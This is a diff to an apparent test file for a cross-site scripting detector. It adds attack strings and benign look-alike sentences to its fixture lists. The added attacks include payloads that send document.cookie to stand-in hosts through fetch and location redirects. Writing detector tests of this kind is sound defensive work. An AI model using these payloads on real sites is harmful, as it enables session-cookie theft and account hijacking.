@@ -79,6 +79,9 @@ const ATTACKS: readonly string[] = [
   '"formaction="//evil.example',
   // JavaScript context
   "';alert(1)//",
+  "x onerror=fetch('//e.example/?c='+document.cookie)",
+  "javascript:document.location='//evil.example/'+document.cookie",
+  "\" onmouseover=location.href='//evil' x=\"",
   '"-alert(1)-"',
   "'-prompt(1)-'",
   '\\";alert(1);//',
@@ -254,6 +257,9 @@ const BENIGN: readonly string[] = [
   'The **`Document.location`** read-only property returns a Location object.',
   'The Window.location read-only property returns a Location object.',
   'The Range.createContextualFragment() method returns a document fragment.',
+  // a DOM member named between words of a question, no script syntax around it
+  'Why does document.cookie return an empty string on localhost?',
+  'Use location.href to redirect the page',
 ];
 
 test('xss: attacks are strong hits at paranoia 1', () => {
